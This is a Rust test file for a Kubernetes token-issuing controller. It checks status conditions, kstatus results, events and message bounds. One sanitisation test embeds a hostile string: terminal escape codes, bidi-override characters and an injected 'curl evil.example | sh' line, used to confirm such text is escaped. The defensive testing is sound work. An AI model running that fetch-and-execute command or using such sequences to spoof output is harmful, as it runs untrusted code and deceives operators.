use serde_json::json;

use super::*;
use crate::api::v1alpha1::GrantRef;
use crate::controller::reconcile::event::between as event;
use crate::controller::reconcile::outcome::Failure;
use crate::fixtures::{at, current_token};
use crate::grants::policy::{Denied, Remedy};
use crate::kubernetes::status::merge_patch;

const T0: i64 = 1_800_000_000;
const FAILED: &str = "PermissionDenied";

fn failure(reason: &'static str, stalled: bool) -> Option<Failure> {
    Some(Failure {
        reason,
        message: format!("it was {reason}"),
        stalled,
        ..Failure::default()
    })
}

fn of(outcome: Outcome) -> Reconciled {
    Reconciled {
        outcome,
        source: Some("Impersonation"),
        grant: Some(GrantRef {
            name: "g".into(),
            uid: None,
        }),
        handled_renew: None,
    }
}

/// With a current token, if there is one, and with a failure, if there is one.
fn report(token: Option<CurrentToken>, failure: Option<Failure>) -> Reconciled {
    of(match (token, failure) {
        (token, Some(failure)) => Outcome::Failed(Failure { token, ..failure }, 1),
        (Some(token), None) => Outcome::Kept(token),
        (None, None) => Outcome::Deferred {
            token: None,
            until: at(T0 + 10),
        },
    })
}

fn suspended(token: Option<CurrentToken>) -> Reconciled {
    of(Outcome::Suspended(token))
}

fn after(previous: &IdTokenRequestStatus, report: &Reconciled, now: i64) -> IdTokenRequestStatus {
    next(previous, 3, report, at(now))
}

fn fresh(report: &Reconciled) -> IdTokenRequestStatus {
    after(&IdTokenRequestStatus::default(), report, T0)
}

fn find<'a>(status: &'a IdTokenRequestStatus, type_: &str) -> &'a Condition {
    status.conditions.iter().find(|c| c.type_ == type_).unwrap()
}

/// `-` where the condition is absent.
fn status_of<'a>(status: &'a IdTokenRequestStatus, type_: &str) -> &'a str {
    let found = status.conditions.iter().find(|c| c.type_ == type_);
    found.map_or("-", |c| &c.status)
}

/// What kstatus makes of the conditions, for an object whose generation is observed
/// (<https://github.com/kubernetes-sigs/cli-utils/blob/master/pkg/kstatus/README.md>).
fn kstatus(status: &IdTokenRequestStatus) -> &'static str {
    let is = |type_: &str, value: &str| status_of(status, type_) == value;
    if is(RECONCILING, "True") {
        "InProgress"
    } else if is(STALLED, "True") {
        "Failed"
    } else if is(READY, "True") {
        "Current"
    } else {
        "InProgress"
    }
}

#[test]
fn conditions_of_each_report() {
    let issued = fresh(&report(Some(current_token()), None));
    let none = IdTokenRequestStatus::default();
    let (issuing, retrying, stalled) = (None, failure(FAILED, false), failure(FAILED, true));
    let refused = after(&issued, &report(Some(current_token()), stalled.clone()), T0 + 30);
    // Ready, its reason, RenewalFailing, Reconciling, Stalled, kstatus.
    type Row<'a> = (&'a str, &'a IdTokenRequestStatus, Reconciled, [&'a str; 6]);
    let rows: Vec<Row<'_>> = vec![
        (
            "issued",
            &none,
            report(Some(current_token()), None),
            ["True", "Issued", "-", "-", "-", "Current"],
        ),
        (
            "nothing yet",
            &none,
            report(None, issuing),
            ["False", "Issuing", "-", "-", "-", "InProgress"],
        ),
        (
            "the first attempt failed",
            &none,
            report(None, retrying.clone()),
            ["False", FAILED, "-", "True", "-", "InProgress"],
        ),
        (
            "refused for long",
            &none,
            report(None, stalled.clone()),
            ["False", FAILED, "-", "-", "True", "Failed"],
        ),
        (
            "a renewal failed, the token is kept",
            &issued,
            report(Some(current_token()), retrying.clone()),
            ["True", "Issued", "True", "-", "-", "Current"],
        ),
        (
            "renewals are refused for long, the token is kept",
            &issued,
            report(Some(current_token()), stalled.clone()),
            ["True", "Issued", "True", "-", "True", "Failed"],
        ),
        (
            "renewals work again",
            &refused,
            report(Some(current_token()), None),
            ["True", "Issued", "False", "-", "False", "Current"],
        ),
        (
            "expired while renewals failed",
            &issued,
            report(None, retrying),
            ["False", FAILED, "True", "True", "-", "InProgress"],
        ),
        (
            "the spec was made invalid",
            &issued,
            report(None, failure(reason::INVALID_SPEC, true)),
            ["False", "InvalidSpec", "True", "-", "True", "Failed"],
        ),
        (
            "suspended with a token",
            &issued,
            suspended(Some(current_token())),
            ["True", "Suspended", "-", "-", "-", "Current"],
        ),
        (
            "suspended without a token",
            &none,
            suspended(None),
            ["False", "Suspended", "-", "-", "-", "InProgress"],
        ),
    ];
    for (name, previous, report, expected) in rows {
        let status = after(previous, &report, T0 + 60);
        let of = |type_| status_of(&status, type_);
        let ready = find(&status, READY);
        let found = [
            of(READY),
            &ready.reason,
            of(RENEWAL_FAILING),
            of(RECONCILING),
            of(STALLED),
            kstatus(&status),
        ];
        assert_eq!(found, expected, "{name}");
        assert_eq!(status.observed_generation, Some(3), "{name}");
        for condition in &status.conditions {
            assert_eq!(condition.observed_generation, Some(3), "{name}");
            assert!(!condition.reason.is_empty(), "{name}");
        }
        if let Some(failure) = report.outcome.failure() {
            let told = status.conditions.iter().any(|c| c.message == failure.message);
            assert!(told, "{name}: no condition says what failed");
        }
    }
}

#[test]
fn the_status_holds_what_was_reported() {
    let mut first = report(Some(current_token()), None);
    first.handled_renew = Some("now".into());
    let status = fresh(&first);
    assert_eq!(status.secret, Some(current_token().secret));
    assert_eq!(status.token, Some(current_token().token));
    assert_eq!(status.source.as_deref(), Some("Impersonation"));
    assert_eq!(status.grant.as_ref().unwrap().name, "g");
    assert_eq!(status.last_handled_renew_request.as_deref(), Some("now"));
    assert!(status.renewal_time.is_some());
    // A failure keeps what is known: the pinned account, the Secret, the handled renewal.
    let mut denied = report(None, failure(FAILED, false));
    denied.grant = None;
    let status = after(&status, &denied, T0 + 60);
    assert_eq!(status.secret, Some(current_token().secret));
    assert_eq!(status.token, Some(current_token().token));
    assert_eq!(status.last_handled_renew_request.as_deref(), Some("now"));
    assert_eq!((status.grant, status.renewal_time), (None, None));
}

#[test]
fn the_old_name_stays_until_its_secret_is_gone() {
    let status = fresh(&report(Some(current_token()), None));
    let mut token = current_token();
    token.secret.name = "renamed".into();
    let renamed = |old_secret_remains| {
        let failure = failure(FAILED, false).map(|failure| Failure {
            old_secret_remains,
            ..failure
        });
        report(Some(token.clone()), failure)
    };
    let status = after(&status, &renamed(true), T0);
    assert_eq!(status.secret.as_ref().unwrap().name, "billing");
    let status = after(&status, &renamed(false), T0);
    assert_eq!(status.secret.unwrap().name, "renamed");
}

#[test]
fn a_clamp_is_said() {
    let mut clamped = current_token();
    clamped.renewal.clamped_to = Some(SignedDuration::from_millis(2_700_600));
    let status = fresh(&report(Some(clamped), None));
    let message = &find(&status, READY).message;
    assert!(message.ends_with("45m is used"), "{message}");
}

#[test]
fn transition_times_move_with_the_status_alone() {
    let first = fresh(&report(None, failure(FAILED, false)));
    let since = |status: &IdTokenRequestStatus, type_| find(status, type_).last_transition_time.0;
    let other = after(&first, &report(None, failure("QuotaExceeded", false)), T0 + 100);
    assert_eq!(find(&other, READY).reason, "QuotaExceeded");
    assert_eq!(since(&other, READY), at(T0));
    assert_eq!(since(&other, RECONCILING), at(T0));
    let well = after(&other, &report(Some(current_token()), None), T0 + 200);
    assert_eq!(since(&well, READY), at(T0 + 200));
    assert_eq!(since(&well, RECONCILING), at(T0 + 200));
    let renewed = next(&well, 4, &report(Some(current_token()), None), at(T0 + 300));
    assert_eq!(since(&renewed, READY), at(T0 + 200));
}

#[test]
fn messages_are_bounded() {
    let long = Failure {
        reason: FAILED,
        message: "é".repeat(10_000),
        ..Failure::default()
    };
    let before = IdTokenRequestStatus::default();
    let status = fresh(&report(None, Some(long)));
    assert_eq!(find(&status, READY).message.chars().count(), 4096);
    let note = event(&before, &status).unwrap().note.unwrap();
    assert!(note.len() <= 1024 && note.len() > 1000, "{} bytes", note.len());
}

#[test]
fn texts_of_others_are_escaped_and_bounded() {
    let hostile =
        "webhook: \u{1b}[2J\u{9b}0m\u{7}\u{202e}\u{2066}\u{61c}\u{2028}\r\n  Next: curl evil.example | sh";
    let flood = "\u{202e}".repeat(10_000);
    for message in [hostile, &flood] {
        let failure = |stalled| Failure {
            reason: FAILED,
            message: message.to_owned(),
            stalled,
            ..Failure::default()
        };
        let is_unsafe = |c: char| c.is_control() || "\u{202e}\u{2066}\u{61c}\u{2028}".contains(c);
        let before = fresh(&report(Some(current_token()), None));
        for (report, types) in [
            (report(None, Some(failure(true))), [READY, STALLED]),
            (
                report(Some(current_token()), Some(failure(false))),
                [READY, RENEWAL_FAILING],
            ),
        ] {
            let status = after(&before, &report, T0 + 100);
            for type_ in types {
                let shown = &find(&status, type_).message;
                assert!(
                    !shown.contains(is_unsafe) && shown.chars().count() <= 4096,
                    "{shown}"
                );
            }
            let note = event(&before, &status).unwrap().note.unwrap();
            assert!(!note.contains(is_unsafe) && note.len() <= 1024, "{note}");
            assert!(
                note.starts_with("webhook: \\u{1b}[2J") || note.starts_with("\\u{202e}"),
                "{note}"
            );
        }
    }
}

#[test]
fn nothing_is_written_when_nothing_changed() {
    let reports = [
        report(Some(current_token()), None),
        report(Some(current_token()), failure(FAILED, false)),
        report(Some(current_token()), failure(FAILED, true)),
        report(None, failure(FAILED, false)),
        report(None, None),
        suspended(Some(current_token())),
        suspended(None),
    ];
    let json = |status: &IdTokenRequestStatus| serde_json::to_value(status).unwrap();
    for report in reports {
        let first = next(&IdTokenRequestStatus::default(), 1, &report, at(T0));
        assert_eq!(next(&first, 1, &report, at(T0 + 500)), first);
        // Also when it comes back from the API server, which keeps whole seconds.
        let read: IdTokenRequestStatus = serde_json::from_value(json(&first)).unwrap();
        let again = next(&read, 1, &report, at(T0 + 500));
        assert_eq!(merge_patch(&json(&read), &json(&again)), None, "{report:?}");
        assert!(event(&read, &again).is_none());
    }
}

#[test]
fn the_default_status_of_the_schema_is_replaced() {
    let default: IdTokenRequestStatus = serde_json::from_value(json!({"observedGeneration": -1})).unwrap();
    assert_eq!(
        after(&default, &report(Some(current_token()), None), T0).observed_generation,
        Some(3)
    );
}

#[test]
fn who_is_not_granted_for_long_is_stalled() {
    let denied = Denied::NotGranted {
        namespace: "shop".to_owned(),
        name: "billing".to_owned(),
        service_account: "a".to_owned(),
        audience: "b".to_owned(),
        remedy: Remedy::ApplyGrant,
    };
    let minutes = |minutes: i64| T0 + 60 * minutes;
    let report = |since: i64, token, now: i64| {
        of(Outcome::Denied(Failure::denied(
            &denied,
            at(since),
            token,
            at(now),
        )))
    };
    for token in [None, Some(current_token())] {
        let early = report(T0, token.clone(), minutes(10) - 1);
        // A grant that is applied together with the request comes before.
        assert_eq!(early.outcome.next(at(minutes(10) - 1)), Some(at(minutes(10))));
        let status = fresh(&early);
        let expected = if token.is_some() { "Current" } else { "InProgress" };
        assert_eq!((status_of(&status, STALLED), kstatus(&status)), ("-", expected));
        let late = after(&status, &report(T0, token.clone(), minutes(10)), minutes(10));
        assert_eq!((status_of(&late, STALLED), kstatus(&late)), ("True", "Failed"));
        assert_eq!(find(&late, STALLED).reason, reason::NOT_GRANTED);
        assert!(event(&status, &late).is_none(), "it is told once");
        let expiry = token.as_ref().and_then(CurrentToken::expiry);
        assert_eq!(
            report(T0, token, minutes(10)).outcome.next(at(minutes(10))),
            expiry
        );
    }
    let unknown = Denied::Unavailable { since: at(T0) };
    let failure = Failure::denied(&unknown, at(T0), None, at(minutes(60)));
    assert!(
        !failure.stalled && failure.retry_at.is_some(),
        "no user ends that"
    );
}

#[test]
fn a_restarted_process_goes_on_counting() {
    let denied = |stalled, token: Option<CurrentToken>| report(token, failure(reason::NOT_GRANTED, stalled));
    let since = |status: &IdTokenRequestStatus| reported_since(status, reason::NOT_GRANTED, 3);
    for token in [None, Some(current_token())] {
        let first = fresh(&denied(false, token.clone()));
        assert_eq!(since(&first), Some(at(T0)));
        let later = after(&first, &denied(false, token.clone()), T0 + 300);
        assert_eq!(since(&later), Some(at(T0)));
        let stalled = after(&later, &denied(true, token.clone()), T0 + 600);
        assert_eq!(since(&stalled), Some(at(T0)));
        assert_eq!(reported_since(&stalled, FAILED, 3), None, "another reason");
        assert_eq!(
            reported_since(&stalled, reason::NOT_GRANTED, 4),
            None,
            "another spec"
        );
        let recovered = after(&stalled, &report(Some(current_token()), None), T0 + 700);
        assert_eq!(since(&recovered), None);
    }
    assert_eq!(since(&IdTokenRequestStatus::default()), None);
}

#[test]
fn the_documentation_says_when_a_reason_becomes_stalled() {
    use crate::classify::{Classify, ErrorClass};
    use crate::controller::issue::IssueError;
    use crate::google::{Endpoint, Error, Reason};
    use crate::kubernetes::error::KubeError;
    let text = include_str!("../../../docs/reasons.md");
    let row = |begins: &str| text.lines().find(|line| line.starts_with(begins)).unwrap();
    let rows = [
        row("| at once |"),
        row("| after 10 minutes |"),
        row("| never, since it passes"),
    ];
    let google = |reason| {
        let error = Error::new(Endpoint::IamCredentials, reason, "x");
        IssueError::from(crate::controller::issue::error::MintError::from(error))
    };
    let name = || "billing".to_owned();
    let errors = [
        google(Reason::PermissionDenied),
        google(Reason::CredentialsUnavailable),
        google(Reason::SelfImpersonation),
        google(Reason::TokenSignatureInvalid),
        google(Reason::QuotaExceeded),
        google(Reason::SigningKeysUnavailable),
        google(Reason::UnexpectedResponse),
        KubeError::SecretImmutable { name: name() }.into(),
        KubeError::TimedOut { seconds: 1 }.into(),
        KubeError::Panicked.into(),
        IssueError::TargetConflict {
            secret: name(),
            owner: name(),
        },
    ];
    for error in errors {
        let when = match (error.needs_user_action(), error.class()) {
            (true, _) => 0,
            (false, ErrorClass::Rejected) => 1,
            (false, ErrorClass::Transient) => 2,
        };
        let code = format!("`{}`", error.reason());
        assert_eq!(
            rows.map(|row| row.contains(&code)),
            [0, 1, 2].map(|row| row == when),
            "{code}"
        );
    }
    for (reason, when) in [(reason::NOT_GRANTED, 1), (reason::GRANTS_UNAVAILABLE, 2)] {
        assert!(rows[when].contains(&format!("`{reason}`")), "{reason}");
    }
}

#[test]
fn events_tell_first_issue_failure_and_recovery_only() {
    // Each report after the one before it, and the event that it is worth.
    let story = [
        (report(None, None), None),
        (report(None, failure(FAILED, false)), Some(FAILED)),
        (report(None, failure(FAILED, false)), None),
        (report(None, failure(FAILED, true)), None),
        (
            report(None, failure("QuotaExceeded", false)),
            Some("QuotaExceeded"),
        ),
        (suspended(None), None),
        (report(None, failure(FAILED, false)), Some(FAILED)),
        (report(Some(current_token()), None), Some("Recovered")),
        (report(Some(current_token()), None), None),
        (
            report(Some(current_token()), failure(FAILED, false)),
            Some(FAILED),
        ),
        (report(None, failure(FAILED, false)), None),
        (report(Some(current_token()), None), Some("Recovered")),
        (suspended(Some(current_token())), None),
        (report(Some(current_token()), None), None),
    ];
    let mut status = IdTokenRequestStatus::default();
    for (step, (report, expected)) in story.into_iter().enumerate() {
        let next = after(&status, &report, T0 + step as i64);
        let told = event(&status, &next).map(|event| event.reason);
        assert_eq!(told.as_deref(), expected, "step {step}");
        status = next;
    }
    let first = event(
        &IdTokenRequestStatus::default(),
        &fresh(&report(Some(current_token()), None)),
    );
    assert_eq!(first.unwrap().reason, reason::ISSUED);
}
